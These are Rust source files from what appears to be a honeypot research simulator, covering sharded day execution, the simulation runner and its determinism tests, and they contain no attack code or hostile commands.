/// regression). The effective shard count is capped so each shard gets at
/// least this many plans; the cap never changes output, only how the
/// (order-preserving) split is cut.
pub const MIN_SHARD_PLANS: usize = 192;

/// Minimum plans per worker shard on the script-cache fast path, where
/// per-session work is much lighter and the same spawn/merge overhead
/// needs more plans to amortize.
pub const MIN_SHARD_PLANS_CACHED: usize = 384;

fn execute_chunk(
    ctx: &ExecCtx<'_>,
    chunk: &[SessionPlan],
    mode: DayMode<'_>,
) -> Result<(Vec<SessionRecord>, TagDb), SimError> {
    let mut records = Vec::with_capacity(chunk.len());
    let mut tags = TagDb::new();
    for plan in chunk {
        let rec = match mode {
            DayMode::Full(prepared) => execute_plan_full(ctx, plan, &mut tags, prepared)?,
            DayMode::Cached(cache) => execute_plan_prepared(ctx, plan, &mut tags, cache)?,
        };
        records.push(rec);
    }
    Ok((records, tags))
}

/// Execute one day's plans across up to `threads` workers, returning each
/// shard's records (in plan order) and private tag shard, in shard order.
///
/// Callers consume shards in order (ingest shard 0's records, then shard
/// 1's, …; fold tags with [`TagDb::merge`]) which reproduces the serial
/// execution exactly while skipping the whole-day record concatenation the
/// old single-vector API paid. The `mode`'s day state must already cover
/// these plans (see [`DayMode`]); a gap surfaces as `Err(SimError)` naming
/// the missing key. A worker panic (a bug, not a coverage gap) is resumed
/// on the caller's thread.
pub fn execute_day_shards(
    ctx: &ExecCtx<'_>,
    plans: &[SessionPlan],
    threads: usize,
    mode: DayMode<'_>,
) -> Result<Vec<(Vec<SessionRecord>, TagDb)>, SimError> {
    let threads = threads.max(1);
    let max_useful = plans.len().div_ceil(mode.min_shard_plans()).max(1);
    let shards_n = threads.min(max_useful);
    if shards_n == 1 {
        // One shard: run inline, no spawn/join round-trip.
        hf_obs::counter!("sim.shards_executed", 1);
        let _span = hf_obs::span!("sim.shard_execute");
        return Ok(vec![execute_chunk(ctx, plans, mode)?]);
    }
    let chunk_len = plans.len().div_ceil(shards_n).max(1);

    std::thread::scope(|scope| {
        let handles: Vec<_> = plans
            .chunks(chunk_len)
            .map(|chunk| {
                scope.spawn(move || {
                    // Workers record into thread-local buffers and flush
                    // before exiting (the span must drop first so its
                    // sample is in the buffer the flush drains).
                    hf_obs::counter!("sim.shards_executed", 1);
                    let out = {
                        let _span = hf_obs::span!("sim.shard_execute");
                        execute_chunk(ctx, chunk, mode)
                    };
                    hf_obs::flush();
                    out
                })
            })
            .collect();
        // Joining in spawn order *is* the ordered merge: chunk i's results
        // land before chunk i+1's regardless of which finished first. A
        // panicking worker re-raises its payload here instead of being
        // swallowed into a generic join error.
        handles
            .into_iter()
            .map(|h| {
                h.join()
                    .unwrap_or_else(|payload| std::panic::resume_unwind(payload))
            })
            .collect()
    })
}

/// Execute one day's plans across `threads` workers, returning the finished
/// records in plan order plus the day's merged tag shard.
///
/// Convenience wrapper over [`execute_day_shards`] that concatenates the
/// shards. Output is byte-identical for any `threads >= 1` — see the
/// module docs for why.
pub fn execute_day_sharded(
    ctx: &ExecCtx<'_>,
    plans: &[SessionPlan],
    threads: usize,
    mode: DayMode<'_>,
) -> Result<(Vec<SessionRecord>, TagDb), SimError> {
    let mut records = Vec::with_capacity(plans.len());
    let mut tags = TagDb::new();
    for (shard_records, shard_tags) in execute_day_shards(ctx, plans, threads, mode)? {
        records.extend(shard_records);
        tags.merge(shard_tags);
    }
    Ok((records, tags))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exec::build_configs;
    use hf_agents::{Ecosystem, EcosystemConfig, Scale};
    use hf_simclock::StudyWindow;

    fn day_plans() -> (Ecosystem, Vec<SessionPlan>) {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: 1234,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(10),
        });
        let plans = eco.plan_day(0);
        (eco, plans)
    }

    fn run(threads: usize, use_cache: bool) -> (Vec<SessionRecord>, TagDb) {
        let (eco, plans) = day_plans();
        let configs = build_configs(&eco.plan);
        let ctx = ExecCtx {
            plan: &eco.plan,
            configs: &configs,
            catalog: &eco.catalog,
            creds: &eco.creds,
            pool: eco.pool_ref(),
        };
        if use_cache {
            let mut cache = ScriptCache::new();
            cache.precompute_day(&ctx, &plans);
            execute_day_sharded(&ctx, &plans, threads, DayMode::Cached(&cache)).unwrap()
        } else {
            let mut prepared = PreparedScripts::new();
            prepared.prepare_day(&ctx, &plans);
            execute_day_sharded(&ctx, &plans, threads, DayMode::Full(&prepared)).unwrap()
        }
    }

    fn assert_same(a: &(Vec<SessionRecord>, TagDb), b: &(Vec<SessionRecord>, TagDb)) {
        assert_eq!(a.0, b.0, "records must match in content and order");
        assert_eq!(a.1.len(), b.1.len());
        for (h, e) in a.1.iter() {
            assert_eq!(b.1.tag(h), Some(e.tag.as_str()));
            assert_eq!(b.1.campaign(h), Some(e.campaign.as_str()));
        }
    }

    #[test]
    fn sharded_execution_is_thread_count_invariant() {
        let one = run(1, false);
        assert!(!one.0.is_empty());
        for threads in [2, 3, 4, 7] {
            assert_same(&run(threads, false), &one);
        }
    }

    #[test]
    fn sharded_execution_with_cache_is_thread_count_invariant() {
        let one = run(1, true);
        for threads in [2, 4] {
            assert_same(&run(threads, true), &one);
        }
    }

    #[test]
    fn more_threads_than_plans_is_fine() {
        let (eco, plans) = day_plans();
        let configs = build_configs(&eco.plan);
        let ctx = ExecCtx {
            plan: &eco.plan,
            configs: &configs,
            catalog: &eco.catalog,
            creds: &eco.creds,
            pool: eco.pool_ref(),
        };
        let few = &plans[..3.min(plans.len())];
        let mut prepared = PreparedScripts::new();
        prepared.prepare_day(&ctx, few);
        let (records, _) = execute_day_sharded(&ctx, few, 64, DayMode::Full(&prepared)).unwrap();
        assert_eq!(records.len(), few.len());
    }

    #[test]
    fn shard_cap_preserves_order_and_content() {
        let (eco, plans) = day_plans();
        let configs = build_configs(&eco.plan);
        let ctx = ExecCtx {
            plan: &eco.plan,
            configs: &configs,
            catalog: &eco.catalog,
            creds: &eco.creds,
            pool: eco.pool_ref(),
        };
        let mut prepared = PreparedScripts::new();
        prepared.prepare_day(&ctx, &plans);
        let reference = execute_day_sharded(&ctx, &plans, 1, DayMode::Full(&prepared)).unwrap();
        for threads in [2, 8, 64] {
            let shards =
                execute_day_shards(&ctx, &plans, threads, DayMode::Full(&prepared)).unwrap();
            // The cap bounds worker count by available work.
            assert!(shards.len() <= plans.len().div_ceil(MIN_SHARD_PLANS).max(1));
            assert!(shards.len() <= threads);
            let flat: Vec<SessionRecord> = shards.into_iter().flat_map(|(r, _)| r).collect();
            assert_eq!(flat, reference.0, "threads={threads}");
        }
    }

    #[test]
    fn coverage_gap_surfaces_as_error_not_panic() {
        let (eco, plans) = day_plans();
        let configs = build_configs(&eco.plan);
        let ctx = ExecCtx {
            plan: &eco.plan,
            configs: &configs,
            catalog: &eco.catalog,
            creds: &eco.creds,
            pool: eco.pool_ref(),
        };
        let empty = PreparedScripts::new();
        let err = execute_day_sharded(&ctx, &plans, 4, DayMode::Full(&empty));
        assert!(err.is_err(), "empty prepared set must be a typed error");
    }

    #[test]
    fn day_stats_throughput() {
        let s = DayStats {
            day: 1,
            days_total: 10,
            day_sessions: 500,
            total_sessions: 500,
            threads: 2,
            day_wall: Duration::from_millis(250),
        };
        assert!((s.sessions_per_sec() - 2000.0).abs() < 1e-6);
        let zero = DayStats {
            day_wall: Duration::ZERO,
            ..s
        };
        assert_eq!(zero.sessions_per_sec(), 0.0);
    }
}
