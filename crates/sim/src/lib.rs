//! The honeyfarm simulator.
//!
//! Takes the attacker ecosystem's daily [`hf_agents::SessionPlan`]s and
//! executes each one against the *real* honeypot implementation — the
//! [`hf_honeypot::SessionDriver`] state machine with its auth policy and
//! timeouts, and the [`hf_shell`] emulator for every intrusion script. The
//! collector ingests the resulting [`hf_honeypot::SessionRecord`]s exactly
//! as it would from live deployments, yielding the 15-month dataset the
//! analyses in `hf-core` run against, plus the hash [`hf_farm::TagDb`].
//!
//! This is the data-gate substitution documented in DESIGN.md: the paper's
//! private 402M-session database is replaced by a synthetic dataset that
//! flows through the identical honeypot code path.

pub mod error;
pub mod exec;
pub mod parallel;
pub mod runner;

pub use error::SimError;
pub use exec::{
    execute_plan, execute_plan_cached, execute_plan_full, execute_plan_prepared, ExecCtx,
    PreparedScripts, ScriptCache, ScriptOutcome,
};
pub use parallel::{execute_day_sharded, DayMode, DayStats};
pub use runner::{FoldOutput, SimConfig, SimOutput, Simulation};
