//! The day-loop runner: ecosystem → plans → honeypot execution → collector.
//!
//! Two terminal modes share one day loop:
//!
//! - **Materialized** ([`Simulation::run`]): every session row accumulates in
//!   the collector's [`hf_farm::SessionStore`]; analyses run afterwards over
//!   the full store. Memory grows with the window (~19 GB of rows at scale
//!   1.0).
//! - **Out-of-core fold** ([`Simulation::run_fold`]): after each completed
//!   day, the day's rows are folded straight into an incremental
//!   [`StreamingFold`] and then retired. Peak RSS is bounded by the largest
//!   single day plus the interning pools, independent of window length; the
//!   resulting [`Aggregates`] are bit-identical to
//!   [`Aggregates::compute`] over the materialized store (proven by
//!   `tests/streaming_analysis.rs`).

use std::io::Read;
use std::time::Instant;

use hf_agents::{Ecosystem, EcosystemConfig, Scale};
use hf_core::{Aggregates, StreamingFold};
use hf_farm::{Collector, Dataset, Snapshot, SnapshotError, SnapshotMeta, TagDb};
use hf_honeypot::ArtifactStore;
use hf_simclock::StudyWindow;

use crate::error::SimError;
use crate::exec::{build_configs, ExecCtx, PreparedScripts, ScriptCache};
use crate::parallel::{execute_day_shards, DayMode, DayStats};

/// Simulation configuration (mirrors [`EcosystemConfig`]).
#[derive(Debug, Clone)]
pub struct SimConfig {
    /// Root seed.
    pub seed: u64,
    /// Volume scale.
    pub scale: Scale,
    /// Observation window.
    pub window: StudyWindow,
    /// Use the script-result cache (shell content computed once per distinct
    /// campaign variant / recon template). Roughly halves simulation time on
    /// command-heavy runs; session *content* is identical, only per-session
    /// timing randomness differs from the reference path. Default off.
    pub use_script_cache: bool,
    /// Worker threads for day execution. `1` (the default) executes each
    /// day's plans inline in plan order; `N > 1` shards them across `N`
    /// scoped workers with an ordered merge. Both run the same prepared
    /// pipeline (scripts parsed once per campaign variant per day, not once
    /// per session) and produce byte-identical output for every thread
    /// count (see `crate::parallel`).
    pub threads: usize,
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::default_bench(),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: 1,
        }
    }
}

impl SimConfig {
    /// Tiny config for tests: truncated window, tiny scale.
    pub fn test(days: u32) -> Self {
        SimConfig {
            seed: 0x7e57,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(days),
            use_script_cache: false,
            threads: 1,
        }
    }
}

/// Everything a run produces.
pub struct SimOutput {
    /// The collected dataset (sessions + artifacts + deployment).
    pub dataset: Dataset,
    /// Hash → tag/campaign database.
    pub tags: TagDb,
    /// Distinct client IPs allocated by the ecosystem.
    pub n_clients: usize,
}

impl SimOutput {
    /// Package the run as an hfstore [`Snapshot`] (see
    /// [`hf_farm::snapshot`]), ready for [`Snapshot::write_file`]. `config`
    /// must be the configuration the run was produced with; it becomes the
    /// snapshot's metadata so `hfarm report` can label its output.
    pub fn to_snapshot(&self, config: &SimConfig) -> Snapshot {
        Snapshot {
            meta: SnapshotMeta {
                seed: config.seed,
                scale_volume: config.scale.volume,
                scale_hashes: config.scale.hashes,
                days: config.window.num_days(),
                n_clients: self.n_clients as u64,
            },
            plan: self.dataset.plan.clone(),
            sessions: self.dataset.sessions.clone(),
            tags: self.tags.clone(),
        }
    }

    /// Reassemble a run from a loaded snapshot without re-simulating. The
    /// artifact store is replayed deterministically from the stored rows,
    /// so the result feeds the Section 6/7 report pipeline exactly like a
    /// fresh [`Simulation::run`] of the same seed.
    pub fn from_snapshot(snapshot: Snapshot) -> SimOutput {
        let (dataset, tags, meta) = snapshot.into_dataset();
        SimOutput {
            dataset,
            tags,
            n_clients: meta.n_clients as usize,
        }
    }
}

/// Everything an out-of-core run produces: a **rowless** dataset (interning
/// pools, artifact store, and deployment plan survive; session rows were
/// folded and retired day by day) plus the finished [`Aggregates`]. The
/// report/claims pipeline runs from `aggregates` + the rowless `dataset`.
pub struct FoldOutput {
    /// Pools + artifacts + plan; `dataset.sessions` holds no rows.
    pub dataset: Dataset,
    /// Hash → tag/campaign database.
    pub tags: TagDb,
    /// Distinct client IPs allocated by the ecosystem.
    pub n_clients: usize,
    /// The whole-run aggregates, bit-identical to
    /// [`Aggregates::compute`] over the materialized store.
    pub aggregates: Aggregates,
}

impl FoldOutput {
    /// Stream an hfstore snapshot through the incremental fold without ever
    /// materializing the rows section: chunks are decoded, folded, and
    /// dropped (`hfarm report --streaming`). The artifact store is replayed
    /// per row exactly like the live collector (file hashes then download
    /// hashes, in row order), so `dataset.artifacts` matches a materialized
    /// [`SimOutput::from_snapshot`] load of the same bytes.
    ///
    /// The incremental freshness series requires day-ordered rows (which
    /// every runner-produced snapshot has); an unordered store surfaces as
    /// [`SnapshotError::Corrupt`] rather than silently wrong freshness.
    ///
    /// Chunks are driven through [`hf_farm::SnapshotReader::fold_chunks`],
    /// so (unless `HF_SNAPSHOT_NO_OVERLAP` is set) the next chunk is read
    /// and checksummed on a prefetch thread while the current one folds —
    /// the `snapshot.chunk_wait` span records how long the fold actually
    /// waited on bytes.
    pub fn from_snapshot_stream<R: Read + Send>(r: R) -> Result<FoldOutput, SnapshotError> {
        // Umbrella span: the whole verify → decode → replay → fold pass,
        // so `hfarm metrics` has an end-to-end wall to derive global hash
        // throughput against (the per-phase spans nest under it).
        let _span = hf_obs::span!("analysis.stream_fold");
        let reader = hf_farm::SnapshotReader::open(r)?;
        let mut fold = StreamingFold::new(reader.plan().len());
        let mut artifacts = ArtifactStore::new();
        let mut last_day = 0u32;
        let (meta, plan, sessions, tags) = reader.fold_chunks(|store, plan, rows| {
            for row in rows {
                let v = store.view_row(row);
                let day = v.day();
                if day < last_day {
                    return Err(SnapshotError::Corrupt {
                        section: "rows",
                        detail: format!(
                            "streaming fold requires day-ordered rows; \
                             a day-{day} row follows day {last_day}"
                        ),
                    });
                }
                last_day = day;
                for h in v.file_hashes() {
                    artifacts.observe_hash(h, 0, v.start());
                }
                for &id in v.download_hash_ids() {
                    artifacts.observe_hash(store.digests.get(id), 0, v.start());
                }
                fold.ingest(plan, &v);
            }
            fold.drain_freshness();
            hf_obs::counter!("analysis.rows_folded", rows.len() as u64);
            Ok(())
        })?;
        hf_obs::sample_peak_rss();
        Ok(FoldOutput {
            dataset: Dataset {
                sessions,
                artifacts,
                plan,
            },
            tags,
            n_clients: meta.n_clients as usize,
            aggregates: fold.finish(),
        })
    }
}

/// The simulator.
pub struct Simulation;

impl Simulation {
    /// Run the full window, panicking on an internal coverage bug (see
    /// [`Simulation::try_run`] for the fallible form).
    pub fn run(config: SimConfig) -> SimOutput {
        Self::try_run(config).unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// Run with a per-day progress callback receiving a [`DayStats`]
    /// throughput report after each simulated day.
    pub fn run_with_progress(config: SimConfig, progress: impl FnMut(&DayStats)) -> SimOutput {
        Self::try_run_with_progress(config, progress)
            .unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// Fallible form of [`Simulation::run`]: a day pre-pass coverage gap
    /// (a `prepare_day`/`precompute_day` bug) surfaces as a typed
    /// [`SimError`] naming the missing key instead of a panic mid-shard.
    pub fn try_run(config: SimConfig) -> Result<SimOutput, SimError> {
        Self::try_run_with_progress(config, |_| {})
    }

    /// Fallible form of [`Simulation::run_with_progress`].
    pub fn try_run_with_progress(
        config: SimConfig,
        mut progress: impl FnMut(&DayStats),
    ) -> Result<SimOutput, SimError> {
        let (collector, tags, n_clients) = Self::run_loop(&config, &mut progress, &mut |_| {})?;
        Ok(SimOutput {
            dataset: collector.finish(),
            tags,
            n_clients,
        })
    }

    /// Out-of-core form of [`Simulation::run`]: fold each completed day into
    /// incremental [`Aggregates`] and retire its rows, so peak memory is
    /// bounded by one day of sessions (plus the interning pools), not the
    /// whole window. Panics on internal coverage bugs like
    /// [`Simulation::run`].
    pub fn run_fold(config: SimConfig) -> FoldOutput {
        Self::try_run_fold(config).unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// [`Simulation::run_fold`] with a per-day [`DayStats`] callback.
    pub fn run_fold_with_progress(
        config: SimConfig,
        progress: impl FnMut(&DayStats),
    ) -> FoldOutput {
        Self::try_run_fold_with_progress(config, progress)
            .unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// Fallible form of [`Simulation::run_fold`].
    pub fn try_run_fold(config: SimConfig) -> Result<FoldOutput, SimError> {
        Self::try_run_fold_with_progress(config, |_| {})
    }

    /// Fallible form of [`Simulation::run_fold_with_progress`].
    ///
    /// The fold hook runs after each day's ingest: it scans the day's rows
    /// into a [`StreamingFold`] (same per-row ingest as
    /// [`Aggregates::compute`], same row order, so the result is
    /// bit-identical), drains completed days into the freshness series, and
    /// retires the rows. Peak RSS is sampled once per day into the
    /// `process.peak_rss_kb` gauge for the run manifest.
    pub fn try_run_fold_with_progress(
        config: SimConfig,
        mut progress: impl FnMut(&DayStats),
    ) -> Result<FoldOutput, SimError> {
        let mut fold: Option<StreamingFold> = None;
        let (collector, tags, n_clients) =
            Self::run_loop(&config, &mut progress, &mut |collector| {
                let f = fold.get_or_insert_with(|| StreamingFold::new(collector.plan().len()));
                let store = collector.sessions();
                let plan = collector.plan();
                for i in 0..store.len() {
                    f.ingest(plan, &store.view(i));
                }
                f.drain_freshness();
                hf_obs::counter!("analysis.rows_folded", store.len() as u64);
                collector.retire_rows();
                hf_obs::sample_peak_rss();
            })?;
        // Rowless: every day was folded and retired; pools/artifacts remain.
        let dataset = collector.finish();
        let aggregates = match fold {
            Some(f) => f.finish(),
            // Zero-day window: an empty fold still yields the canonical
            // empty aggregates (one all-zero day, like `compute`).
            None => StreamingFold::new(dataset.plan.len()).finish(),
        };
        Ok(FoldOutput {
            dataset,
            tags,
            n_clients,
            aggregates,
        })
    }

    /// The shared day loop. `after_day` runs once per simulated day after
    /// the day's records are ingested (and before the progress callback);
    /// the materialized path passes a no-op, the fold path scans and
    /// retires the day's rows.
    fn run_loop(
        config: &SimConfig,
        progress: &mut dyn FnMut(&DayStats),
        after_day: &mut dyn FnMut(&mut Collector),
    ) -> Result<(Collector, TagDb, usize), SimError> {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: config.seed,
            scale: config.scale,
            window: config.window,
        });
        let configs = build_configs(&eco.plan);
        let mut collector =
            Collector::with_capacity(&eco.world, eco.plan.clone(), eco.estimated_sessions());
        let mut tags = TagDb::new();
        // Both per-day pre-passes persist across days: campaign variants
        // repeat day after day, so parse/outcome work amortizes across the
        // whole window, not just within one day.
        let mut cache = ScriptCache::new();
        let mut prepared = PreparedScripts::new();
        let days = config.window.num_days();
        let threads = config.threads.max(1);
        hf_obs::gauge!("sim.threads", threads);
        hf_obs::gauge!("sim.days", days);
        let mut total_sessions = 0usize;
        for day in 0..days {
            let _day_span = hf_obs::span!("sim.day");
            let day_start = Instant::now();
            let plans = eco.plan_day(day);
            hf_obs::counter!("sim.days_executed", 1);
            hf_obs::counter!("sim.sessions_executed", plans.len() as u64);
            hf_obs::observe!("sim.day_sessions", plans.len());
            let ctx = ExecCtx {
                plan: &eco.plan,
                configs: &configs,
                catalog: &eco.catalog,
                creds: &eco.creds,
                pool: eco.pool_ref(),
            };
            // Serial pre-pass: parse each distinct campaign/recon script
            // once (or pre-compute its cached outcome), then execute the
            // day's plans through the shard machinery. With `threads == 1`
            // the single shard runs inline — same plan order, no spawn.
            let mode = if config.use_script_cache {
                cache.precompute_day(&ctx, &plans);
                DayMode::Cached(&cache)
            } else {
                prepared.prepare_day(&ctx, &plans);
                DayMode::Full(&prepared)
            };
            // Ingest shard-by-shard in shard order — same row/tag order
            // as a serial loop without concatenating the whole day's
            // records into one intermediate vector first.
            for (records, day_tags) in execute_day_shards(&ctx, &plans, threads, mode)? {
                collector.ingest_batch(&records);
                tags.merge(day_tags);
            }
            total_sessions += plans.len();
            after_day(&mut collector);
            progress(&DayStats {
                day: day + 1,
                days_total: days,
                day_sessions: plans.len(),
                total_sessions,
                threads,
                day_wall: day_start.elapsed(),
            });
        }
        Ok((collector, tags, eco.n_clients()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_run_produces_consistent_dataset() {
        let out = Simulation::run(SimConfig::test(10));
        assert!(out.dataset.len() > 500, "sessions: {}", out.dataset.len());
        assert!(out.n_clients > 50);
        assert!(!out.tags.is_empty());
        // Every stored session has a valid honeypot and a start within range.
        for v in out.dataset.sessions.iter() {
            assert!((v.honeypot() as usize) < out.dataset.plan.len());
            assert!(v.day() < 10);
        }
    }

    #[test]
    fn runs_are_bit_reproducible() {
        let a = Simulation::run(SimConfig::test(6));
        let b = Simulation::run(SimConfig::test(6));
        assert_eq!(a.dataset.len(), b.dataset.len());
        assert_eq!(a.n_clients, b.n_clients);
        let rows_equal = a
            .dataset
            .sessions
            .rows()
            .iter()
            .zip(b.dataset.sessions.rows())
            .all(|(x, y)| x == y);
        assert!(rows_equal, "identical seeds must give identical stores");
        assert_eq!(a.tags.len(), b.tags.len());
    }

    #[test]
    fn different_seeds_differ() {
        let a = Simulation::run(SimConfig::test(5));
        let mut cfg = SimConfig::test(5);
        cfg.seed = 999;
        let b = Simulation::run(cfg);
        assert_ne!(
            a.dataset.sessions.rows().first().map(|r| r.client_ip),
            b.dataset.sessions.rows().first().map(|r| r.client_ip)
        );
    }

    #[test]
    fn all_categories_present_in_a_run() {
        let out = Simulation::run(SimConfig::test(12));
        let mut no_cred = 0;
        let mut fail_log = 0;
        let mut no_cmd = 0;
        let mut cmd = 0;
        let mut cmd_uri = 0;
        for v in out.dataset.sessions.iter() {
            if !v.attempted_login() {
                no_cred += 1;
            } else if !v.login_succeeded() {
                fail_log += 1;
            } else if v.n_commands() == 0 {
                no_cmd += 1;
            } else if !v.has_uri() {
                cmd += 1;
            } else {
                cmd_uri += 1;
            }
        }
        assert!(no_cred > 0, "no_cred");
        assert!(fail_log > 0, "fail_log");
        assert!(no_cmd > 0, "no_cmd");
        assert!(cmd > 0, "cmd");
        assert!(cmd_uri > 0, "cmd_uri {cmd_uri}");
        // FAIL_LOG should be the biggest bucket even in a short window.
        assert!(fail_log > no_cred / 4);
    }

    #[test]
    fn script_cache_preserves_session_content() {
        let mut slow_cfg = SimConfig::test(8);
        let mut fast_cfg = SimConfig::test(8);
        slow_cfg.use_script_cache = false;
        fast_cfg.use_script_cache = true;
        let slow = Simulation::run(slow_cfg);
        let fast = Simulation::run(fast_cfg);
        // Same session count and identical hash/command/URI universes; only
        // per-session timing randomness differs between the paths.
        assert_eq!(slow.dataset.len(), fast.dataset.len());
        let digests = |out: &SimOutput| {
            let mut v: Vec<_> = out
                .dataset
                .sessions
                .digests
                .iter()
                .map(|(_, d)| d)
                .collect();
            v.sort();
            v
        };
        assert_eq!(digests(&slow), digests(&fast));
        assert_eq!(slow.tags.len(), fast.tags.len());
        let cmd_count = |out: &SimOutput| {
            out.dataset
                .sessions
                .iter()
                .map(|v| v.n_commands())
                .sum::<usize>()
        };
        assert_eq!(cmd_count(&slow), cmd_count(&fast));
        let uri_sessions =
            |out: &SimOutput| out.dataset.sessions.iter().filter(|v| v.has_uri()).count();
        assert_eq!(uri_sessions(&slow), uri_sessions(&fast));
    }

    #[test]
    fn artifacts_match_stored_hashes() {
        let out = Simulation::run(SimConfig::test(8));
        // Every distinct digest in the store is known to the artifact store.
        for (_, digest) in out.dataset.sessions.digests.iter() {
            assert!(out.dataset.artifacts.get(&digest).is_some());
        }
        // And tagged (tail campaigns are 'unknown' but still present).
        let tagged = out
            .dataset
            .sessions
            .digests
            .iter()
            .filter(|(_, d)| out.tags.tag(d).is_some())
            .count();
        assert_eq!(tagged, out.dataset.sessions.digests.len());
    }

    #[test]
    fn snapshot_roundtrip_reproduces_the_run() {
        let cfg = SimConfig::test(6);
        let out = Simulation::run(cfg.clone());
        let mut bytes = Vec::new();
        out.to_snapshot(&cfg).write_to(&mut bytes).expect("write");
        let loaded =
            SimOutput::from_snapshot(Snapshot::read_from(&mut bytes.as_slice()).expect("read"));
        // Sessions: identical rows in identical order.
        assert_eq!(loaded.dataset.sessions.rows(), out.dataset.sessions.rows());
        assert_eq!(loaded.n_clients, out.n_clients);
        // Tags: same associations.
        assert_eq!(loaded.tags.len(), out.tags.len());
        for (h, e) in out.tags.iter() {
            assert_eq!(loaded.tags.tag(h), Some(e.tag.as_str()));
            assert_eq!(loaded.tags.campaign(h), Some(e.campaign.as_str()));
        }
        // Artifacts: the deterministic replay matches the live collector.
        assert_eq!(loaded.dataset.artifacts.len(), out.dataset.artifacts.len());
        for (h, meta) in out.dataset.artifacts.iter() {
            let r = loaded.dataset.artifacts.get(h).expect("artifact");
            assert_eq!(r.first_seen, meta.first_seen);
            assert_eq!(r.last_seen, meta.last_seen);
            assert_eq!(r.occurrences, meta.occurrences);
        }
        // Deployment metadata survives.
        assert_eq!(loaded.dataset.plan, out.dataset.plan);
    }

    #[test]
    fn fold_run_matches_materialized_run() {
        let out = Simulation::run(SimConfig::test(8));
        let agg = Aggregates::compute(&out.dataset);
        let fold = Simulation::run_fold(SimConfig::test(8));
        // Rows were retired day by day; pools and artifacts survive.
        assert!(fold.dataset.sessions.is_empty());
        assert_eq!(fold.n_clients, out.n_clients);
        assert_eq!(fold.tags.len(), out.tags.len());
        assert_eq!(
            fold.dataset.sessions.digests.len(),
            out.dataset.sessions.digests.len()
        );
        assert_eq!(fold.dataset.artifacts.len(), out.dataset.artifacts.len());
        for (h, meta) in out.dataset.artifacts.iter() {
            let r = fold.dataset.artifacts.get(h).expect("artifact");
            assert_eq!(r.first_seen, meta.first_seen);
            assert_eq!(r.occurrences, meta.occurrences);
        }
        // Aggregates: same totals (the full bit-for-bit differential lives
        // in tests/streaming_analysis.rs via the testkit oracle).
        assert_eq!(fold.aggregates.total_sessions, agg.total_sessions);
        assert_eq!(fold.aggregates.day_total, agg.day_total);
        assert_eq!(fold.aggregates.asns, agg.asns);
    }

    #[test]
    fn fold_streams_a_snapshot_identically() {
        let cfg = SimConfig::test(6);
        let out = Simulation::run(cfg.clone());
        let mut bytes = Vec::new();
        out.to_snapshot(&cfg).write_to(&mut bytes).expect("write");
        let agg = Aggregates::compute(&out.dataset);
        let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("stream");
        assert!(fold.dataset.sessions.is_empty());
        assert_eq!(fold.n_clients, out.n_clients);
        assert_eq!(fold.tags.len(), out.tags.len());
        assert_eq!(fold.dataset.artifacts.len(), out.dataset.artifacts.len());
        for (h, meta) in out.dataset.artifacts.iter() {
            let r = fold.dataset.artifacts.get(h).expect("artifact");
            assert_eq!(r.first_seen, meta.first_seen);
            assert_eq!(r.last_seen, meta.last_seen);
            assert_eq!(r.occurrences, meta.occurrences);
        }
        assert_eq!(fold.aggregates.total_sessions, agg.total_sessions);
        assert_eq!(fold.aggregates.day_total, agg.day_total);
    }

    #[test]
    fn progress_reports_every_day() {
        let mut seen = Vec::new();
        Simulation::run_with_progress(SimConfig::test(4), |s| {
            seen.push((s.day, s.days_total, s.day_sessions, s.threads));
        });
        assert_eq!(seen.len(), 4);
        assert_eq!(seen.last().unwrap().0, 4);
        assert!(seen
            .iter()
            .all(|&(_, total, n, t)| total == 4 && n > 0 && t == 1));
    }
}
