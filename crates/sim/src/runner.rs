//! The day-loop runner: ecosystem → plans → honeypot execution → collector.

use std::time::Instant;

use hf_agents::{Ecosystem, EcosystemConfig, Scale};
use hf_farm::{Collector, Dataset, Snapshot, SnapshotMeta, TagDb};
use hf_simclock::StudyWindow;

use crate::error::SimError;
use crate::exec::{build_configs, ExecCtx, PreparedScripts, ScriptCache};
use crate::parallel::{execute_day_shards, DayMode, DayStats};

/// Simulation configuration (mirrors [`EcosystemConfig`]).
#[derive(Debug, Clone)]
pub struct SimConfig {
    /// Root seed.
    pub seed: u64,
    /// Volume scale.
    pub scale: Scale,
    /// Observation window.
    pub window: StudyWindow,
    /// Use the script-result cache (shell content computed once per distinct
    /// campaign variant / recon template). Roughly halves simulation time on
    /// command-heavy runs; session *content* is identical, only per-session
    /// timing randomness differs from the reference path. Default off.
    pub use_script_cache: bool,
    /// Worker threads for day execution. `1` (the default) executes each
    /// day's plans inline in plan order; `N > 1` shards them across `N`
    /// scoped workers with an ordered merge. Both run the same prepared
    /// pipeline (scripts parsed once per campaign variant per day, not once
    /// per session) and produce byte-identical output for every thread
    /// count (see `crate::parallel`).
    pub threads: usize,
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::default_bench(),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: 1,
        }
    }
}

impl SimConfig {
    /// Tiny config for tests: truncated window, tiny scale.
    pub fn test(days: u32) -> Self {
        SimConfig {
            seed: 0x7e57,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(days),
            use_script_cache: false,
            threads: 1,
        }
    }
}

/// Everything a run produces.
pub struct SimOutput {
    /// The collected dataset (sessions + artifacts + deployment).
    pub dataset: Dataset,
    /// Hash → tag/campaign database.
    pub tags: TagDb,
    /// Distinct client IPs allocated by the ecosystem.
    pub n_clients: usize,
}

impl SimOutput {
    /// Package the run as an hfstore [`Snapshot`] (see
    /// [`hf_farm::snapshot`]), ready for [`Snapshot::write_file`]. `config`
    /// must be the configuration the run was produced with; it becomes the
    /// snapshot's metadata so `hfarm report` can label its output.
    pub fn to_snapshot(&self, config: &SimConfig) -> Snapshot {
        Snapshot {
            meta: SnapshotMeta {
                seed: config.seed,
